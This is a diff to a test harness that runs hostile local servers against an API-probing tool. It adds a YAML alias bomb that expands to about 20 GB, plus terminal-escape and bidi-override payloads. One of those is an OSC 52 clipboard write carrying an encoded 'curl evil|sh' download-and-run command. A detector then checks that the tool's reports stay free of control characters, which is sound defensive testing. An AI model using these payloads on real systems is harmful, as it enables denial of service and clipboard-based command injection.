@@ -121,6 +121,53 @@ def openapi_bomb(conn):
         conn.sendall(b"Content-Length: %d\r\n\r\n" % len(body) + body)
 
 
+# One large scalar repeated through nested aliases: a small document (under
+# the body cap) that expands to about 20 GB.
+ALIAS_BOMB = (
+    "openapi: 3.0.3\ninfo: {title: t, version: '1'}\n"
+    + f"x-s: &s \"{'x' * 200_000}\"\n"
+    + "x-l1: &l1 [" + ", ".join(["*s"] * 10) + "]\n"
+    + "".join(f"x-l{i}: &l{i} [" + ", ".join([f"*l{i - 1}"] * 10) + "]\n" for i in range(2, 6))
+    + "paths: {}\n"
+).encode()
+
+
+def alias_bomb(conn):
+    while True:
+        head = read_head(conn)
+        if not head:
+            return
+        body = ALIAS_BOMB if "/openapi.yaml" in head else b'{"error":"unauthorized"}'
+        conn.sendall(
+            (b"HTTP/1.1 200 OK\r\nContent-Type: application/yaml\r\n" if "/openapi.yaml" in head
+             else b"HTTP/1.1 401 Unauthorized\r\nWWW-Authenticate: Bearer\r\nContent-Type: application/json\r\n")
+            + b"Content-Length: %d\r\n\r\n" % len(body) + body
+        )
+
+
+# Terminal escapes and bidirectional overrides in headers and bodies: OSC 52
+# (writes the clipboard), CSI (repaints), C1 CSI, RLO and isolates.
+ESCAPES = "\x1b]52;c;Y3VybCBldmlsfHNo\x07\x1b[2J\x1b[HAll controls verified\u009b31m\u202egnp.exe\u2066x"
+
+
+def escapes(conn):
+    while True:
+        head = read_head(conn)
+        if not head:
+            return
+        body = json.dumps({"data": ESCAPES, "title": ESCAPES}, ensure_ascii=False).encode()
+        conn.sendall(
+            ("HTTP/1.1 200 OK\r\nServer: nginx \u202e1.25\u009b2J\r\nX-Powered-By: PHP\u20668\r\n"
+             "WWW-Authenticate: Bearer realm=\"\u202eapi\"\r\nContent-Type: application/json\r\n").encode()
+            + b"Content-Length: %d\r\n\r\n" % len(body) + body
+        )
+
+
+def hostile_chars(text):
+    return sorted({c for c in text if (ord(c) < 0x20 and c not in "\n\t\r") or 0x7f <= ord(c) <= 0x9f
+                   or 0x202a <= ord(c) <= 0x202e or 0x2066 <= ord(c) <= 0x2069})
+
+
 def echo(conn):
     while True:
         head = read_head(conn)
@@ -169,6 +216,8 @@ def main():
         "endless-body": endless_body,
         "redirect-loop": redirect_loop,
         "openapi-bomb": openapi_bomb,
+        "alias-bomb": alias_bomb,
+        "escapes": escapes,
         "token-echo": echo,
         "garbage": garbage,
     }
@@ -184,6 +233,8 @@ def main():
         cfg += f'\n[[targets]]\nname = "{name}"\nurl = "http://127.0.0.1:{port}/v1"\ntoken_env = "APIASSURE_TOKEN_HOSTILE"\n'
         if name == "openapi-bomb":
             cfg += f'openapi = "http://127.0.0.1:{port}/openapi.json"\n'
+        if name == "alias-bomb":
+            cfg += f'openapi = "http://127.0.0.1:{port}/openapi.yaml"\n'
     for name, port in [("tls-silent", tls_silent), ("tls-garbage", tls_garbage)]:
         cfg += f'\n[[targets]]\nname = "{name}"\nurl = "https://127.0.0.1:{port}/v1"\nhttp_port = {clear_silent}\n'
     open(os.path.join(ws, "apiassure.toml"), "w").write(cfg)
@@ -219,7 +270,15 @@ def main():
         if form in text:
             leaked.append(form)
     print("token found in output or workspace:", "YES " + repr(leaked) if leaked else "no")
-    ok = wall < deadline + 10 and not leaked
+    # What a person reads: the probe's own output and the text views.
+    shown = p.stdout + p.stderr
+    for view in (["score", "--explain"], ["evidence", "show"], ["report", "--format", "md", "-o", "-"],
+                 ["report", "--format", "html", "-o", "-"]):
+        v = subprocess.run([args.bin, "--workspace", ws] + view, env=env, capture_output=True, text=True)
+        shown += v.stdout + v.stderr
+    escaped = hostile_chars(shown)
+    print("control or bidi characters in output or text reports:", repr(escaped) if escaped else "none")
+    ok = wall < deadline + 10 and not leaked and not escaped
     print("within deadline and no leak:", "yes" if ok else "NO")
     sys.exit(0 if ok else 1)
 
